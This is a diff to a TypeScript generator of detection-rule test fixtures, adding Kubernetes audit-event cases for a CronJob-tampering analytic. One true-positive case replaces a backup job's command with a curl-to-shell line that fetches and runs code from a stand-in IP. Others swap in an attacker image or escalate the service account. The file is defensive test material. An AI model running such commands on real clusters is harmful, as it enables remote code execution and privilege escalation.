@@ -1152,6 +1152,176 @@ const AZURE_CASES: RuleCases[] = [
   },
 ];
 
+const backupCreated = () => createCronJob(PEOPLE.ci, BACKUP, { userAgent: AGENTS.helm });
+const swappedImage = {
+  ...BACKUP,
+  containers: [{ ...(BACKUP.containers[0] as Container), image: 'ghcr.io/x0r/pg-backup:15.4' }],
+};
+
+/** Event sequences for the stateful analytics (one .jsonl per case, in time order). */
+const ANALYTIC_CASES: RuleCases[] = [
+  {
+    rule: 'rules/analytics/cw-005-cronjob-tampering',
+    tp: {
+      'strategic-patch-swaps-image-request-level': [
+        backupCreated(),
+        audit({
+          verb: 'patch',
+          resource: 'cronjobs',
+          namespace: 'payments',
+          name: 'db-backup',
+          user: PEOPLE.mallory,
+          level: 'Request',
+          uriQuery: '?fieldManager=kubectl-patch',
+          request: {
+            spec: {
+              jobTemplate: {
+                spec: {
+                  template: {
+                    spec: { containers: [{ name: 'backup', image: 'ghcr.io/x0r/pg-backup:15.4' }] },
+                  },
+                },
+              },
+            },
+          },
+        }),
+      ],
+      'update-replaces-command': [
+        backupCreated(),
+        audit({
+          verb: 'update',
+          resource: 'cronjobs',
+          namespace: 'payments',
+          name: 'db-backup',
+          user: PEOPLE.alice,
+          request: cronJob(
+            {
+              ...BACKUP,
+              containers: [
+                {
+                  ...(BACKUP.containers[0] as Container),
+                  command: ['/bin/sh', '-c', 'curl -s http://203.0.113.9/x | sh'],
+                },
+              ],
+            },
+            true,
+          ),
+          response: cronJob(
+            {
+              ...BACKUP,
+              containers: [
+                {
+                  ...(BACKUP.containers[0] as Container),
+                  command: ['/bin/sh', '-c', 'curl -s http://203.0.113.9/x | sh'],
+                },
+              ],
+            },
+            true,
+          ),
+        }),
+      ],
+      'json-patch-on-unknown-cronjob': [
+        audit({
+          verb: 'patch',
+          resource: 'cronjobs',
+          namespace: 'payments',
+          name: 'db-backup',
+          user: PEOPLE.mallory,
+          request: [
+            {
+              op: 'replace',
+              path: '/spec/jobTemplate/spec/template/spec/containers/0/image',
+              value: 'ghcr.io/x0r/pg-backup:15.4',
+            },
+          ],
+          response: cronJob(swappedImage, true),
+        }),
+      ],
+      'server-side-apply-changes-service-account': [
+        backupCreated(),
+        audit({
+          verb: 'patch',
+          resource: 'cronjobs',
+          namespace: 'payments',
+          name: 'db-backup',
+          user: PEOPLE.alice,
+          level: 'Request',
+          uriQuery: '?fieldManager=kubectl&force=true',
+          request: {
+            apiVersion: 'batch/v1',
+            kind: 'CronJob',
+            metadata: { name: 'db-backup', namespace: 'payments' },
+            spec: {
+              jobTemplate: {
+                spec: { template: { spec: { serviceAccountName: 'payments-admin' } } },
+              },
+            },
+          },
+        }),
+      ],
+    },
+    fp: {
+      'label-patch': [
+        backupCreated(),
+        audit({
+          verb: 'patch',
+          resource: 'cronjobs',
+          namespace: 'payments',
+          name: 'db-backup',
+          user: PEOPLE.alice,
+          request: { metadata: { labels: { tier: 'gold' } } },
+          response: cronJob(BACKUP, true),
+        }),
+      ],
+      'controller-status-update': [
+        backupCreated(),
+        audit({
+          verb: 'update',
+          resource: 'cronjobs',
+          subresource: 'status',
+          namespace: 'payments',
+          name: 'db-backup',
+          user: PEOPLE.cronjobController,
+          userAgent: AGENTS.controller,
+          request: cronJob(BACKUP, true),
+          response: cronJob(BACKUP, true),
+        }),
+      ],
+      'denied-image-patch': [
+        backupCreated(),
+        audit({
+          verb: 'patch',
+          resource: 'cronjobs',
+          namespace: 'payments',
+          name: 'db-backup',
+          user: PEOPLE.mallory,
+          code: 403,
+          request: [
+            {
+              op: 'replace',
+              path: '/spec/jobTemplate/spec/template/spec/containers/0/image',
+              value: 'ghcr.io/x0r/pg-backup:15.4',
+            },
+          ],
+        }),
+      ],
+      'reapply-identical-spec': [
+        backupCreated(),
+        audit({
+          verb: 'update',
+          resource: 'cronjobs',
+          namespace: 'payments',
+          name: 'db-backup',
+          user: PEOPLE.ci,
+          userAgent: AGENTS.helm,
+          request: cronJob(BACKUP, true),
+          response: cronJob(BACKUP, true),
+        }),
+      ],
+    },
+  },
+];
+
 function write(path: string, value: Json | Json[]): void {
   mkdirSync(dirname(path), { recursive: true });
   const text = Array.isArray(value)
@@ -1161,10 +1331,16 @@ function write(path: string, value: Json | Json[]): void {
 }
 
 if (import.meta.url === `file://${process.argv[1]}`) {
-  for (const { rule, tp, fp } of [...CASES, ...AZURE_CASES]) {
+  for (const { rule, tp, fp } of [...CASES, ...AZURE_CASES, ...ANALYTIC_CASES]) {
     const folder = `${ROOT}${rule}.tests`;
     rmSync(folder, { recursive: true, force: true });
-    for (const [name, value] of Object.entries(tp)) write(`${folder}/tp/${name}.json`, value);
-    for (const [name, value] of Object.entries(fp)) write(`${folder}/fp/${name}.json`, value);
+    for (const [expected, cases] of [
+      ['tp', tp],
+      ['fp', fp],
+    ] as const) {
+      for (const [name, value] of Object.entries(cases)) {
+        write(`${folder}/${expected}/${name}.${Array.isArray(value) ? 'jsonl' : 'json'}`, value);
+      }
+    }
   }
 }
